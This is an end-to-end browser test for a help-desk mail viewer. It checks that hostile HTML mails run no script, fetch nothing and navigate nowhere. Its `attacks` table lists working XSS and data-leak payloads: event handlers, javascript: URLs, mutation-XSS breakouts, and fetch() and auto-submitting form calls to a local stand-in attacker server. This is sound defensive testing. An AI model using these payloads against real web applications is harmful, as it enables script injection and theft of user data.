// Mails that want to run something, fetch something or lead somewhere: a real browser opens each, and nothing of it happens.
import { createServer } from 'node:http';
import { createCustomer } from '../support/customers.js';
import { expect, test } from '../support/test.js';

/** What each mail tries; `E` is a server that must hear nothing, and sets `heard` if a script of it runs. */
const attacks = (E) => ({
  'a script': `<script>document.title='ran';fetch('${E}/script')</script><script src="${E}/script.js"></script>`,
  'a picture that fails': `<img src="${E}/pixel.gif" width=1 height=1><img src=x onerror="fetch('${E}/onerror');alert(1)"><picture><source srcset="${E}/srcset"><img alt=""></picture>`,
  'an svg': `<svg onload="alert(2)"><script>fetch('${E}/svg')</script><image href="${E}/svg.png"/><use href="${E}/use.svg#x"/><animate onbegin="alert(3)" attributeName="x" dur="1s"/></svg>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${E}/refresh"><link rel="stylesheet" href="${E}/link.css"><link rel="preload" as="image" href="${E}/preload"><link rel="dns-prefetch" href="${E}">`,
  'a style': `<style>@import url(${E}/import.css);@font-face{font-family:x;src:url(${E}/font)}body{background:url(${E}/body);font-family:x}</style><p style="background:url(${E}/style);position:fixed;inset:0">over</p>`,
  'a background': `<table background="${E}/table"><tr><td background="${E}/cell">x</td></tr></table><body background="${E}/bodybg">`,
  'a form': `<form id=f action="${E}/form" method=post><input name=q value=secret><button autofocus>Press</button><input type=image src="${E}/input"></form><script>f.submit()</script>`,
  'frames': `<iframe srcdoc="<script>parent.alert(4);fetch('${E}/srcdoc')</script>"></iframe><iframe src="${E}/iframe"></iframe><object data="${E}/object"></object><embed src="${E}/embed"><frameset><frame src="${E}/frame"></frameset>`,
  'media': `<video src="${E}/video" poster="${E}/poster" autoplay></video><audio src="${E}/audio" autoplay></audio><track src="${E}/track">`,
  'a base': `<base href="${E}/"><a href="relative">relative</a><img src="relative.gif"><a ping="${E}/ping" href="https://shop.example/">ping</a>`,
  'addresses that run': `<a href="javascript:alert(5)">one</a><a href="data:text/html,<script>alert(6)</script>">two</a><a href="vbscript:x">three</a><a href="java&#10;script:alert(7)">four</a>`,
  'words that break out': `</body></html><script>alert(8)</script></iframe><noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(10)&gt;">`,
  'handlers': `<p onmouseover="alert(11)" onclick="alert(12)" onfocus="alert(13)" tabindex=0 autofocus>over</p><details open ontoggle="alert(14)"><summary>x</summary></details><marquee onstart="alert(15)">x</marquee>`,
});

/** A mail of HTML alone, as a program hands it in. */
const mail = (n, from, html) =>
  [`From: Eve <${from}>`, 'To: desk@shop.example', `Subject: Hostile ${n}`, `Message-ID: <hostile-${n}@example.com>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '']
    .concat(Buffer.from(`<p>Kept words ${n}.</p>${html}`).toString('base64').replace(/.{76}/g, '$&\r\n'), '')
    .join('\r\n');

test('a hostile mail runs nothing, fetches nothing and leads nowhere', async ({ page, context, browser, desk }) => {
  test.setTimeout(120_000);
  const heard = [];
  const enemy = createServer((request, answer) => (heard.push(request.url), answer.end()));
  await new Promise((resolve) => enemy.listen(0, '127.0.0.1', resolve));
  const E = `http://127.0.0.1:${enemy.address().port}`;
  try {
    // Without walls the same words do what they want: the other server can hear.
    const bare = await browser.newContext();
    const open = await bare.newPage();
    await open.goto(`${E}/`);
    await open.setContent(['a picture that fails', 'a style', 'media'].map((name) => attacks(E)[name]).join(''), { waitUntil: 'commit' });
    await expect.poll(() => heard).toEqual(expect.arrayContaining(['/pixel.gif', '/style', '/poster']));
    await bare.close();
    heard.length = 0;

    const from = 'eve@hostile.example';
    const eve = await createCustomer(page, { 'E-mail': from });
    const tries = Object.entries(attacks(E));
    const entries = [];
    for (const [n, [, html]] of tries.entries()) {
      const headers = { Authorization: `Bearer ${desk.key}`, 'Content-Type': 'message/rfc822' };
      const filed = await page.request.post(`${desk.url}/api/v1/mails`, { data: mail(n, from, html), headers });
      expect(filed.status(), await filed.text()).toBe(201);
      entries.push((await filed.json()).entry);
    }

    const strange = [];
    const dialogs = [];
    const note = (request) => {
      const to = new URL(request.url());
      if (to.protocol.startsWith('http') && to.origin !== desk.url) strange.push(request.url());
    };
    context.on('request', note);
    context.on('page', (other) => strange.push(`a window: ${other.url()}`));
    page.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));

    // In the stream, each in its frame, as staff open it.
    await page.goto(`${eve}/conversations`);
    for (const [n, entry] of entries.entries()) {
      const line = page.locator(`[id="${entry}"]`);
      await line.getByText('Show as it was sent').click();
      await line.locator('iframe.letter').scrollIntoViewIfNeeded();
      const words = line.frameLocator('iframe.letter').getByText(`Kept words ${n}.`);
      await expect(words).toBeVisible();
    }
    await expect(page).toHaveURL(new RegExp(`${eve}/conversations`));

    // And alone, without the walls of the frame: its own policy holds as well.
    for (const [n, entry] of entries.entries()) {
      const answer = await page.goto(`/entries/${entry}/html`);
      expect(answer.headers()['content-security-policy'], tries[n][0]).toContain("default-src 'none'");
      const words = page.getByText(`Kept words ${n}.`);
      await words.hover();
      await words.click();
      await page.waitForLoadState('networkidle');
      expect(new URL(page.url()).pathname, tries[n][0]).toBe(`/entries/${entry}/html`);
      const left = await page.evaluate(() => ({
        title: document.title,
        tags: [...document.querySelectorAll('script,img,svg,iframe,object,embed,form,input,base,link,meta[http-equiv],video,audio,math,details[ontoggle]')].map((e) => e.tagName),
        handlers: [...document.body.querySelectorAll('*')].flatMap((e) => [...e.attributes]).filter((a) => /^on|^style$|^background$|^ping$/i.test(a.name)).map((a) => a.name),
        links: [...document.links].map((a) => a.protocol).filter((p) => !['http:', 'https:', 'mailto:', 'tel:'].includes(p)),
      }));
      expect(left, tries[n][0]).toEqual({ title: 'Mail', tags: [], handlers: [], links: [] });
    }
    expect(dialogs).toEqual([]);
    expect(strange, 'asked of somebody else').toEqual([]);
    expect(heard, 'what the other server heard').toEqual([]);
  } finally {
    enemy.closeAllConnections();
    await new Promise((resolve) => enemy.close(resolve));
  }
});
